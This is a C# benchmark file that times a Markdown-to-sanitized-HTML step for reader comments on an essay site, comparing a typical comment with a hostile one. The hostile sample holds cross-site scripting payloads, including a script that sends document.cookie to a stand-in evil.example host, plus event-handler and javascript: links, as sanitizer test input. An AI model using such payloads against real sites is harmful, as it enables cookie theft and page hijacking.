using BenchmarkDotNet.Attributes;
using EssayReader.Annotations;

namespace EssayReader.Benchmarks;

/// <summary>
/// A reader's Markdown comment to the sanitized HTML every other reader is shown: Markdig with raw HTML
/// disabled, then HtmlSanitizer. Paid once per save (creating or editing a comment, posting a reply),
/// never when a comment is shown, since the HTML is stored beside its source. A typical comment
/// (emphasis, a link, a list) and a hostile one (script, event handlers, javascript: and relative links).
/// </summary>
[MemoryDiagnoser]
[Config(typeof(InProcessConfig))]
public class CommentMarkdownBenchmarks
{
    private const string Typical = """
        This is *exactly* what the **Sino-Soviet split** showed: each side hedges, as
        [Fravel (2005)](https://doi.org/10.1162/016228805775124534) argues about China's borders.

        Two things the essay leaves out:

        - Russia's arms sales to India and Vietnam
        - China's ~~quiet~~ growing presence in Central Asia
        """;

    private const string Hostile = """
        <script>fetch('https://evil.example/?c=' + document.cookie)</script>
        Nice *essay*! <img src=x onerror="alert(document.cookie)"> Read <a href="javascript:alert(1)" onclick="steal()">this</a>
        or [this](javascript:alert(1)), [sign out](/account/sign-out), [elsewhere](//evil.example) and <https://evil.example/?q=<svg onload=alert(1)>>.

        <iframe src="https://evil.example"></iframe><style>body { display: none }</style>
        > <div onmouseover="alert(1)">**quoted**</div>
        """;

    private readonly CommentMarkdown _markdown = new();

    [Benchmark(Baseline = true)]
    public string TypicalComment() => _markdown.ToSafeHtml(Typical);

    [Benchmark]
    public string HostileComment() => _markdown.ToSafeHtml(Hostile);
}
